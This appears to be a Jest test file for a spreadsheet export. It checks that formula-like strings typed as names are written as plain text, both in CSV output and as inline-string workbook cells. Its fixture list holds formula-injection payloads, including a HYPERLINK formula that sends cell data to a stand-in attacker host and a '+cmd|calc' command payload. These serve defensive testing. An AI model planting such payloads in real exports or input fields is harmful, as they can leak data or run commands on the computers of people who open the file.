import { Readable } from 'node:stream';
import { describe, expect, it } from '@jest/globals';
import { openSheet } from './read-sheet.js';
import { csvRow, textWorkbook } from './write-sheet.js';

/** What strangers may type as their name, for the computer of whoever opens the export. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1)',
  '+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  '＝1+1',
  '\t=1',
  '\r=1',
];

describe('what was typed as a formula', () => {
  it.each(FORMULAS)('%j is text in CSV', (typed) => {
    const [cell] = csvRow([typed]).split('\r\n');
    expect(cell!.replace(/^"/, '')).toMatch(/^'/);
  });

  it.each(FORMULAS)('%j is a text cell in a workbook, and comes back as it was', async (typed) => {
    const file = textWorkbook('名单', [[typed]]);
    expect(file.toString()).not.toContain('<f>');
    expect(file.toString()).toContain('t="inlineStr"');
    const sheet = await openSheet({ open: () => Readable.from([file]) });
    for await (const [line] of sheet.rows) expect(line!.cells[0]!.trim()).toBe(typed.trim());
  });
});
